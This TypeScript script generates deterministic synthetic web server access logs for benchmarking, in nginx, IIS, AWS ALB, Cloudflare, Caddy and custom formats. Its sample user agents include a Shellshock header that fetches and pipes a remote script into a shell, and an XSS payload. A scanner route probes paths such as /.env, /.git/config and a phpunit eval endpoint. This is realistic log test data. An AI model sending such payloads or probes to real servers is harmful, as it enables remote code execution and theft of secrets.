/**
 * Writes a deterministic access log for benchmarks, the same requests in any of the built-in formats.
 *
 *   tsx scripts/gen-bench-log.ts --lines 1000000 --out bench-data/bench-1m.log [--seed 1] [--format nginx-combined]
 *
 * The same options always give the same bytes. Every format carries the same requests: the same
 * clients, times (whole seconds), paths, statuses and bytes, so reports of them agree on counts.
 * --format nginx-combined (the default) writes what this script always wrote. Combined lines look like what nginx writes with its
 * default escaping: every '"', '\' and byte >= 0x80 inside a variable is written as \xHH
 * (uppercase hex), so the file is pure ASCII. The day has a 45-minute incident (14:00-14:45)
 * where upstream errors (502/504) pile up on the API and pages, on top of a background of 5xx;
 * about 3% of all lines are 5xx.
 */
import { closeSync, mkdirSync, openSync, writeSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { seededRandom } from './seeded-random.js';

export interface BenchLogOptions {
  lines: number;
  out: string;
  seed?: number;
  /** Which format to write the requests in; nginx combined by default. */
  format?: BenchFormat;
}


type Weighted<T> = ReadonlyArray<readonly [T, number]>;

class Picker<T> {
  private readonly values: T[];
  private readonly cumulative: number[];
  private readonly total: number;

  constructor(entries: Weighted<T>) {
    this.values = entries.map(([value]) => value);
    let sum = 0;
    this.cumulative = entries.map(([, weight]) => (sum += weight));
    this.total = sum;
  }

  pick(random: () => number): T {
    const target = random() * this.total;
    let low = 0;
    let high = this.cumulative.length - 1;
    while (low < high) {
      const mid = (low + high) >> 1;
      if (this.cumulative[mid]! > target) high = mid;
      else low = mid + 1;
    }
    return this.values[low]!;
  }
}

/** nginx default log escaping of one variable's bytes. */
function nginxEscape(text: string): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    if (byte === 0x22 || byte === 0x5c || byte < 0x20 || byte >= 0x7f) {
      out += '\\x' + byte.toString(16).toUpperCase().padStart(2, '0');
    } else {
      out += String.fromCharCode(byte);
    }
  }
  return out;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const TZ_OFFSET_MINUTES = 60;
const TZ_TEXT = '+0100';
// Local midnight, 14 March 2026, in the log's fixed +01:00 zone.
const DAY_START_UTC_MS = Date.UTC(2026, 2, 14, 0, 0, 0) - TZ_OFFSET_MINUTES * 60_000;
const DAY_MS = 86_400_000;
const INCIDENT_START_MS = 14 * 3_600_000;
const INCIDENT_END_MS = INCIDENT_START_MS + 45 * 60_000;

function two(n: number): string {
  return n < 10 ? '0' + n : String(n);
}

function timeLocal(utcMs: number): string {
  const d = new Date(utcMs + TZ_OFFSET_MINUTES * 60_000);
  return `${two(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} ${TZ_TEXT}`;
}

const USER_AGENTS: Weighted<string> = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 22],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.122 Safari/537.36 Edg/123.0.2420.97', 6],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15', 9],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', 8],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1', 14],
  ['Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36', 10],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0', 5],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', 2],
  ['Mozilla/5.0 (iPad; CPU OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1', 2],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 4],
  ['Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36', 2],
  ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 1],
  ['Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 2],
  ['okhttp/4.12.0', 3],
  ['python-requests/2.31.0', 1.5],
  ['Go-http-client/1.1', 1.5],
  ['curl/8.5.0', 1],
  ['kube-probe/1.29', 1],
  ['Prometheus/2.51.1', 0.5],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.4.0.0 Safari/537.36', 0.5],
  // Header values with quotes, backslashes and non-ASCII: nginx escapes them to \xHH.
  ['() { :; }; /bin/bash -c "curl -s http://203.0.113.50/x.sh | sh"', 0.05],
  ['Mozilla/5.0 "><script>alert(1)</script>', 0.05],
  ['Mozilla/5.0 (Windows NT 6.1) Chrome/41.0 "Mozilla\\Compatible"', 0.05],
  ['Mozilla/5.0 (Linux; Android 12) ЯндексБраузер/23.3', 0.05],
  ['', 0.1],
];

const REFERER_HOSTS = ['https://shop.example.com', 'https://www.example.com'];
const SEARCH_REFERERS = [
  'https://www.google.com/',
  'https://www.google.de/',
  'https://www.bing.com/search?q=running+shoes&form=QBLH',
  'https://duckduckgo.com/',
  'android-app://com.google.android.googlequicksearchbox/',
];
const WORDS = ['trail', 'running', 'shoes', 'jacket', 'winter', 'waterproof', 'kids', 'sale', 'socks', 'tent', 'ultralight', 'backpack', 'camping', 'stove', 'gloves', 'merino', 'hoodie', 'cap'];
const SIZES = ['thumb', 'small', 'medium', 'large'];
const METHODS = new Picker<string>([['GET', 85], ['POST', 9], ['HEAD', 2], ['PUT', 2], ['DELETE', 1], ['OPTIONS', 1]]);
const PROTOCOLS = new Picker<string>([['HTTP/1.1', 70], ['HTTP/2.0', 28], ['HTTP/1.0', 2]]);
const USERS = ['alice', 'deploy', 'monitor', 'j.smith'];

type RouteKind = 'api' | 'page' | 'static' | 'image' | 'probe' | 'scanner';
const ROUTES = new Picker<RouteKind>([['api', 34], ['page', 20], ['static', 25], ['image', 15], ['probe', 3], ['scanner', 3]]);

export class BenchLogGenerator {
  private readonly random: () => number;
  /** Draws for what the combined line does not show, so adding them left its bytes as they were. */
  private readonly extra: () => number;
  private readonly ipv4: string[] = [];
  private readonly ipv6: string[] = [];
  private readonly userAgents = new Picker(USER_AGENTS.map(([ua, w]) => [ua === '' ? '' : nginxEscape(ua), w] as const));

  constructor(seed = 1) {
    this.random = seededRandom(seed);
    this.extra = seededRandom(seed ^ 0x5bd1e995);
    for (let i = 0; i < 4000; i++) {
      this.ipv4.push(`${this.int(1, 223)}.${this.int(0, 255)}.${this.int(0, 255)}.${this.int(1, 254)}`);
    }
    for (let i = 0; i < 600; i++) {
      this.ipv6.push(`2001:db8:${this.hex(4)}:${this.hex(2)}::${this.hex(3)}`);
    }
  }

  private int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  private hex(digits: number): string {
    let out = '';
    for (let i = 0; i < digits; i++) out += '0123456789abcdef'[Math.floor(this.random() * 16)];
    return out;
  }

  private word(): string {
    return WORDS[Math.floor(this.random() * WORDS.length)]!;
  }

  /** A few clients send most requests, as on a real site. */
  private client(): string {
    const skewed = Math.pow(this.random(), 2.5);
    if (this.random() < 0.12) return this.ipv6[Math.floor(skewed * this.ipv6.length)]!;
    return this.ipv4[Math.floor(skewed * this.ipv4.length)]!;
  }

  private referer(): string {
    const r = this.random();
    if (r < 0.35) return '-';
    if (r < 0.8) {
      const host = REFERER_HOSTS[r < 0.7 ? 0 : 1]!;
      return `${host}/products/${this.word()}-${this.word()}-${this.int(1000, 99999)}`;
    }
    if (r < 0.95) return SEARCH_REFERERS[Math.floor(this.random() * SEARCH_REFERERS.length)]!;
    return `${REFERER_HOSTS[0]}/search?q=${this.word()}+${this.word()}&page=${this.int(1, 9)}&utm_source=newsletter&utm_medium=email`;
  }

  private route(kind: RouteKind, method: string): string {
    switch (kind) {
      case 'api': {
        const r = this.random();
        if (r < 0.3) return `/api/v1/products/${this.int(1, 250000)}`;
        if (r < 0.5) return `/api/v1/users/${this.int(1, 900000)}/orders?limit=${this.int(1, 5) * 10}&offset=${this.int(0, 20) * 10}`;
        if (r < 0.65) return `/api/v2/search?q=${this.word()}%20${this.word()}&page=${this.int(1, 12)}&sort=${this.random() < 0.5 ? 'price_asc' : 'relevance'}`;
        if (r < 0.8) return method === 'GET' ? `/api/v1/cart/${this.hex(24)}` : `/api/v1/cart/${this.hex(24)}/items`;
        if (r < 0.9) return `/api/v1/orders/${this.int(100000, 999999)}/status`;
        return `/graphql?operationName=ProductPage&variables=%7B%22id%22%3A${this.int(1, 250000)}%7D`;
      }
      case 'page': {
        const r = this.random();
        if (r < 0.2) return '/';
        if (r < 0.6) return `/products/${this.word()}-${this.word()}-${this.int(1000, 99999)}`;
        if (r < 0.75) return `/category/${this.word()}?page=${this.int(1, 30)}&utm_source=google&utm_medium=cpc&gclid=${this.hex(20)}`;
        if (r < 0.85) return `/blog/2026/${two(this.int(1, 3))}/${this.word()}-${this.word()}-${this.word()}`;
        if (r < 0.95) return this.random() < 0.5 ? '/cart' : '/checkout';
        // Some clients send raw UTF-8 in the URI; nginx writes those bytes as \xHH.
        return nginxEscape(`/search?q=${this.random() < 0.5 ? 'größe' : 'кроссовки'}`);
      }
      case 'static': {
        const r = this.random();
        if (r < 0.45) return `/static/js/app.${this.hex(8)}.js`;
        if (r < 0.7) return `/static/css/main.${this.hex(8)}.css`;
        if (r < 0.85) return `/static/fonts/inter-${this.random() < 0.5 ? 'regular' : 'bold'}.woff2`;
        return '/favicon.ico';
      }
      case 'image':
        return `/images/products/${this.int(1, 250000)}/${SIZES[Math.floor(this.random() * SIZES.length)]}.jpg`;
      case 'probe':
        return this.random() < 0.7 ? '/healthz' : '/metrics';
      case 'scanner': {
        const targets = ['/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/index.php', '/admin/', '/cgi-bin/luci/;stok=/locale', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'];
        return targets[Math.floor(this.random() * targets.length)]!;
      }
    }
  }

  private status(kind: RouteKind, method: string, inIncident: boolean): number {
    const r = this.random();
    if (kind === 'scanner') return r < 0.85 ? 404 : r < 0.95 ? 403 : 301;
    if (kind === 'probe') return r < 0.995 ? 200 : 503;
    if (inIncident && (kind === 'api' ? r < 0.8 : kind === 'page' && r < 0.4)) return this.random() < 0.6 ? 502 : 504;
    const serverError = kind === 'api' ? 0.03 : kind === 'page' ? 0.02 : 0.005;
    if (r < serverError) {
      const s = this.random();
      return s < 0.5 ? 500 : s < 0.7 ? 502 : s < 0.85 ? 503 : 504;
    }
    const rest = (r - serverError) / (1 - serverError);
    if (kind === 'static' || kind === 'image') {
      if (rest < 0.78) return 200;
      if (rest < 0.95) return 304;
      if (rest < 0.98) return 404;
      return kind === 'image' ? 206 : 200;
    }
    if (kind === 'api') {
      if (method === 'POST' && rest < 0.3) return 201;
      if (method === 'DELETE' && rest < 0.5) return 204;
      if (rest < 0.88) return 200;
      if (rest < 0.92) return 404;
      if (rest < 0.95) return 401;
      if (rest < 0.965) return 400;
      if (rest < 0.975) return 429;
      if (rest < 0.985) return 499;
      if (rest < 0.99) return 403;
      return 200;
    }
    if (rest < 0.86) return 200;
    if (rest < 0.91) return 302;
    if (rest < 0.94) return 301;
    if (rest < 0.96) return 304;
    if (rest < 0.99) return 404;
    return 499;
  }

  private bytes(kind: RouteKind, status: number): number {
    switch (status) {
      case 204:
      case 304:
      case 499:
        return 0;
      case 301:
      case 302:
        return 162;
      case 502:
        return 157;
      case 503:
        return 197;
      case 504:
        return 167;
    }
    if (status >= 400) return this.int(150, 600);
    if (kind === 'static') return this.int(8_000, 420_000);
    if (kind === 'image') return this.int(4_000, 250_000);
    if (kind === 'page') return this.int(12_000, 90_000);
    if (kind === 'probe') return this.int(2, 3000);
    return this.int(60, 24_000);
  }

  /**
   * The request made at `utcMs`. The draws happen in the order the combined line was always
   * written in, so that format's bytes stay what they were; what only other formats show (the
   * upstream, the request time, the host) comes from a second stream.
   */
  request(utcMs: number): BenchRequest {
    const random = this.random;
    const offsetInDay = (utcMs - DAY_START_UTC_MS) % DAY_MS;
    const inIncident = offsetInDay >= INCIDENT_START_MS && offsetInDay < INCIDENT_END_MS;
    const client = this.client();
    const user = random() < 0.02 ? USERS[Math.floor(random() * USERS.length)]! : '-';
    const second = Math.floor(utcMs / 1000) * 1000;

    // Garbage on the plain-HTTP port (a TLS handshake): nginx logs it as a 400 with escaped bytes.
    const odd = random();
    if (odd < 0.0004) {
      const request = `\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03${nginxEscape(this.hex(6))}`;
      return this.finish({ utcMs: second, client, user: '-', kind: 'garbage', request, method: '', path: '', protocol: '', status: 400, bytes: 157, referer: '-', agent: '-' });
    }
    if (odd < 0.0006) {
      return this.finish({ utcMs: second, client, user: '-', kind: 'garbage', request: '', method: '', path: '', protocol: '', status: 400, bytes: 0, referer: '-', agent: '-' });
    }

    const kind = ROUTES.pick(random);
    const method = kind === 'api' ? METHODS.pick(random) : random() < 0.97 ? 'GET' : 'HEAD';
    const path = this.route(kind, method);
    const protocol = PROTOCOLS.pick(random);
    const status = this.status(kind, method, inIncident);
    const bytes = this.bytes(kind, status);
    const referer = kind === 'probe' || kind === 'scanner' ? '-' : this.referer();
    const agent = kind === 'probe' ? 'kube-probe/1.29' : this.userAgents.pick(random);
    return this.finish({ utcMs: second, client, user, kind, request: `${method} ${path} ${protocol}`, method, path, protocol, status, bytes, referer, agent });
  }

  /** Adds what the proxy formats show: which upstream answered, with what, and how long it all took. */
  private finish(base: Omit<BenchRequest, 'host' | 'upstream' | 'upstreamStatus' | 'seconds' | 'upstreamSeconds'>): BenchRequest {
    const r = this.extra;
    const host = r() < 0.85 ? 'shop.example.com' : 'www.example.com';
    const proxied = base.kind === 'api' || base.kind === 'page' || base.kind === 'scanner';
    let upstream: string | undefined;
    let upstreamStatus: number | undefined;
    let upstreamSeconds = -1;
    let seconds: number;
    if (proxied && base.status !== 499) {
      upstream = `10.0.${base.kind === 'api' ? 1 : 2}.${1 + Math.floor(r() * 4)}:8080`;
      if (base.status === 504) {
        upstreamSeconds = 60;
        upstreamStatus = 504;
      } else if (base.status === 502) {
        // The upstream closed the connection (no status of its own) or answered 502 itself.
        upstreamSeconds = r() * 0.05;
        upstreamStatus = r() < 0.7 ? undefined : 502;
      } else {
        upstreamSeconds = 0.002 + Math.pow(r(), 3) * (base.kind === 'api' ? 0.9 : 0.4);
        upstreamStatus = base.status;
      }
      seconds = upstreamSeconds + r() * 0.002;
    } else {
      seconds = base.status === 499 ? r() * 5 : r() * 0.002;
    }
    return { ...base, host, upstream, upstreamStatus, seconds: Math.round(seconds * 1000) / 1000, upstreamSeconds: Math.round(upstreamSeconds * 1000) / 1000 };
  }

  /** The nginx combined line written at `utcMs`, without its newline. */
  line(utcMs: number): string {
    return renderCombined(this.request(utcMs));
  }
}

/** One generated request, as the formats below write it. Text fields are as nginx escapes them. */
export interface BenchRequest {
  /** Epoch ms, whole seconds (the combined time has no finer part, so no format gets one). */
  utcMs: number;
  client: string;
  user: string;
  kind: RouteKind | 'garbage';
  /** The request line as nginx writes it ('' when the client sent none). */
  request: string;
  method: string;
  path: string;
  protocol: string;
  status: number;
  bytes: number;
  referer: string;
  agent: string;
  host: string;
  /** The upstream that answered; undefined when nginx served the request itself. */
  upstream: string | undefined;
  /** Its status; undefined when it gave none. */
  upstreamStatus: number | undefined;
  /** The whole request's time, in seconds with ms precision. */
  seconds: number;
  /** The upstream's time, or -1 without one. */
  upstreamSeconds: number;
}

/** Reverses nginxEscape: the text the client sent. */
function unescapeNginx(text: string): string {
  if (!text.includes('\\x')) return text;
  const bytes: number[] = [];
  for (let i = 0; i < text.length; i++) {
    if (text.charCodeAt(i) === 0x5c && text[i + 1] === 'x' && /^[0-9A-F]{2}$/.test(text.slice(i + 2, i + 4))) {
      bytes.push(parseInt(text.slice(i + 2, i + 4), 16));
      i += 3;
    } else {
      bytes.push(...Buffer.from(text[i]!, 'utf8'));
    }
  }
  return Buffer.from(bytes).toString('utf8');
}

function isoSeconds(utcMs: number): string {
  return new Date(utcMs).toISOString().slice(0, 19);
}

function renderCombined(q: BenchRequest): string {
  return `${q.client} - ${q.user} [${timeLocal(q.utcMs)}] "${q.request}" ${q.status} ${q.bytes} "${q.referer}" "${q.agent}"`;
}

/** The nginx `log_format` the custom format is written with: combined and three fields of a proxy. */
export const CUSTOM_LOG_FORMAT =
  '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_time $upstream_addr $upstream_status';

function renderCustom(q: BenchRequest): string {
  return `${renderCombined(q)} ${q.seconds.toFixed(3)} ${q.upstream ?? '-'} ${q.upstreamStatus ?? '-'}`;
}

/** The field set IIS 8.5 and later write by default, with sc-bytes and cs-bytes. */
const IIS_FIELDS = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken';

/** A W3C value: '-' when empty, spaces written as '+' as IIS does. */
function w3c(text: string): string {
  return text === '' ? '-' : text.replaceAll(' ', '+');
}

function splitQuery(target: string): [string, string] {
  const mark = target.indexOf('?');
  return mark < 0 ? [target, '-'] : [target.slice(0, mark), target.slice(mark + 1) || '-'];
}

function renderIis(q: BenchRequest): string {
  const [stem, query] = q.method === '' ? ['-', '-'] : splitQuery(unescapeNginx(q.path));
  const iso = isoSeconds(q.utcMs);
  // IIS answers a closed upstream connection with 502.3 and ERROR_INTERNET_CONNECTION_ABORTED.
  const sub = q.status === 502 && q.upstreamStatus === undefined ? '3 12030' : '0 0';
  const fields = [iso.slice(0, 10), iso.slice(11), '10.0.0.5', w3c(q.method), w3c(stem), w3c(query), '443', w3c(q.user === '-' ? '' : q.user), q.client];
  fields.push(w3c(unescapeNginx(q.agent === '-' ? '' : q.agent)), w3c(q.referer === '-' ? '' : q.referer), `${q.status} ${sub}`, String(q.bytes), String(200 + (q.bytes % 900)), String(Math.round(q.seconds * 1000)));
  return fields.join(' ');
}

function iisHeader(): string {
  return ['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0', `#Date: ${isoSeconds(DAY_START_UTC_MS).replace('T', ' ')}`, `#Fields: ${IIS_FIELDS}`].join('\n');
}

/** ALB writes unparseable requests with '-' method and protocol, and `-` for the times it has not got. */
function renderAlb(q: BenchRequest): string {
  const target = q.upstream ?? '-';
  const targetStatus = q.upstreamStatus === undefined ? '-' : String(q.upstreamStatus);
  const requestTime = q.upstream === undefined ? '-1' : '0.000';
  const targetTime = q.upstreamSeconds < 0 || q.upstreamStatus === undefined ? '-1' : q.upstreamSeconds.toFixed(3);
  const responseTime = targetTime === '-1' ? '-1' : '0.000';
  const url = q.method === '' ? `- https://${q.host}:443- -` : `${q.method} https://${q.host}:443${encodeURI(unescapeNginx(q.path)).replaceAll('%25', '%')} ${q.protocol}`;
  const agent = q.agent === '-' ? '-' : unescapeNginx(q.agent);
  const port = 1024 + (q.bytes % 60000);
  const client = q.client.includes(':') ? `[${q.client}]` : q.client;
  const iso = `${isoSeconds(q.utcMs)}.000000Z`;
  return [
    q.protocol === 'HTTP/2.0' ? 'h2' : 'https',
    iso,
    'app/bench-lb/50dc6c495c0c9188',
    `${client}:${port}`,
    target,
    requestTime,
    targetTime,
    responseTime,
    String(q.status),
    targetStatus,
    String(200 + (q.bytes % 900)),
    String(q.bytes),
    `"${url}"`,
    `"${agent}"`,
    'ECDHE-RSA-AES128-GCM-SHA256',
    'TLSv1.2',
    'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/bench/73e2d6bc24d8a067',
    `"Root=1-${(q.utcMs / 1000).toString(16)}-${q.bytes.toString(16).padStart(24, '0')}"`,
    `"${q.host}"`,
    '"arn:aws:acm:eu-west-1:123456789012:certificate/12345678-1234-1234-1234-123456789012"',
    '0',
    iso,
    '"forward"',
    '"-"',
    '"-"',
    `"${target}"`,
    `"${targetStatus}"`,
    '"-"',
    '"-"',
  ].join(' ');
}

function renderCloudflare(q: BenchRequest): string {
  const iso = `${isoSeconds(q.utcMs)}Z`;
  return JSON.stringify({
    ClientIP: q.client,
    ClientRequestHost: q.host,
    ClientRequestMethod: q.method,
    ClientRequestURI: unescapeNginx(q.path),
    ClientRequestProtocol: q.protocol,
    ClientRequestReferer: q.referer === '-' ? '' : q.referer,
    ClientRequestUserAgent: q.agent === '-' ? '' : unescapeNginx(q.agent),
    EdgeEndTimestamp: iso,
    EdgeResponseBytes: q.bytes,
    EdgeResponseStatus: q.status,
    EdgeStartTimestamp: iso,
    OriginIP: q.upstream === undefined ? '' : q.upstream.slice(0, q.upstream.indexOf(':')),
    OriginResponseDurationMs: q.upstreamSeconds < 0 ? 0 : Math.round(q.upstreamSeconds * 1000),
    OriginResponseStatus: q.upstreamStatus ?? 0,
    RayID: (q.utcMs / 1000).toString(16) + q.bytes.toString(16).padStart(8, '0'),
  });
}

function renderNginxJson(q: BenchRequest): string {
  const offset = `+${two(TZ_OFFSET_MINUTES / 60)}:00`;
  const local = new Date(q.utcMs + TZ_OFFSET_MINUTES * 60_000).toISOString().slice(0, 19);
  return JSON.stringify({
    time_iso8601: `${local}${offset}`,
    remote_addr: q.client,
    remote_user: q.user === '-' ? '' : q.user,
    request: unescapeNginx(q.request),
    status: String(q.status),
    body_bytes_sent: String(q.bytes),
    request_time: q.seconds.toFixed(3),
    http_referer: q.referer === '-' ? '' : q.referer,
    http_user_agent: q.agent === '-' ? '' : unescapeNginx(q.agent),
    host: q.host,
    upstream_addr: q.upstream ?? '',
    upstream_status: q.upstreamStatus === undefined ? (q.upstream === undefined ? '' : '-') : String(q.upstreamStatus),
    upstream_response_time: q.upstreamSeconds < 0 ? '' : q.upstreamSeconds.toFixed(3),
  });
}

function renderCaddy(q: BenchRequest): string {
  const headers: Record<string, string[]> = {};
  if (q.agent !== '-' && q.agent !== '') headers['User-Agent'] = [unescapeNginx(q.agent)];
  if (q.referer !== '-') headers['Referer'] = [q.referer];
  return JSON.stringify({
    level: q.status >= 500 ? 'error' : 'info',
    ts: q.utcMs / 1000,
    logger: 'http.log.access',
    msg: 'handled request',
    request: { remote_ip: q.client, remote_port: String(1024 + (q.bytes % 60000)), client_ip: q.client, proto: q.protocol, method: q.method, host: q.host, uri: unescapeNginx(q.path), headers },
    bytes_read: 0,
    user_id: q.user === '-' ? '' : q.user,
    duration: q.seconds,
    size: q.bytes,
    status: q.status,
    resp_headers: { Server: ['Caddy'] },
  });
}

/** The formats the generator writes, by the name `--format` takes. */
export const BENCH_FORMATS = {
  'nginx-combined': { render: renderCombined, header: undefined },
  'iis-w3c': { render: renderIis, header: iisHeader },
  'aws-alb': { render: renderAlb, header: undefined },
  'cloudflare-json': { render: renderCloudflare, header: undefined },
  'nginx-json': { render: renderNginxJson, header: undefined },
  'caddy-json': { render: renderCaddy, header: undefined },
  'custom-log-format': { render: renderCustom, header: undefined },
} as const satisfies Record<string, { render: (q: BenchRequest) => string; header: (() => string) | undefined }>;

export type BenchFormat = keyof typeof BENCH_FORMATS;

export function isBenchFormat(name: string): name is BenchFormat {
  return Object.hasOwn(BENCH_FORMATS, name);
}

/** Writes the log; returns the number of bytes written. Header lines (IIS) are not among `lines`. */
export function writeBenchLog(options: BenchLogOptions): number {
  const generator = new BenchLogGenerator(options.seed ?? 1);
  const { render, header } = BENCH_FORMATS[options.format ?? 'nginx-combined'];
  mkdirSync(dirname(resolve(options.out)), { recursive: true });
  const fd = openSync(options.out, 'w');
  let written = 0;
  try {
    if (header !== undefined) written += writeSync(fd, header() + '\n');
    const step = DAY_MS / Math.max(1, options.lines);
    let batch: string[] = [];
    for (let i = 0; i < options.lines; i++) {
      batch.push(render(generator.request(DAY_START_UTC_MS + Math.floor(i * step))));
      if (batch.length === 10_000 || i === options.lines - 1) {
        written += writeSync(fd, batch.join('\n') + '\n');
        batch = [];
      }
    }
  } finally {
    closeSync(fd);
  }
  return written;
}

const USAGE = `usage: tsx scripts/gen-bench-log.ts [--lines N] [--out FILE] [--seed N] [--format ${Object.keys(BENCH_FORMATS).join('|')}]`;

function parseArgs(argv: string[]): BenchLogOptions {
  const options: BenchLogOptions = { lines: 1_000_000, out: 'bench-data/bench-1m.log', seed: 1 };
  for (let i = 0; i < argv.length; i++) {
    const flag = argv[i];
    const value = argv[i + 1];
    if ((flag === '--lines' || flag === '--seed') && value !== undefined && /^\d+$/.test(value)) {
      options[flag === '--lines' ? 'lines' : 'seed'] = Number(value);
      i++;
    } else if (flag === '--out' && value !== undefined) {
      options.out = value;
      i++;
    } else if (flag === '--format' && value !== undefined && isBenchFormat(value)) {
      options.format = value;
      i++;
    } else {
      throw new Error(`${USAGE} (bad argument: ${flag}${flag === '--format' && value !== undefined ? ` ${value}` : ''})`);
    }
  }
  return options;
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) {
  try {
    const options = parseArgs(process.argv.slice(2));
    const started = performance.now();
    const bytes = writeBenchLog(options);
    const seconds = (performance.now() - started) / 1000;
    process.stdout.write(`${options.out}: ${options.lines} lines, ${(bytes / 1048576).toFixed(1)} MiB in ${seconds.toFixed(1)} s\n`);
    if (options.format === 'custom-log-format') process.stdout.write(`read it with: logcodes report --log-format '${CUSTOM_LOG_FORMAT}' ${options.out}\n`);
  } catch (err) {
    process.stderr.write(`${err instanceof Error ? err.message : String(err)}\n`);
    process.exitCode = 1;
  }
}
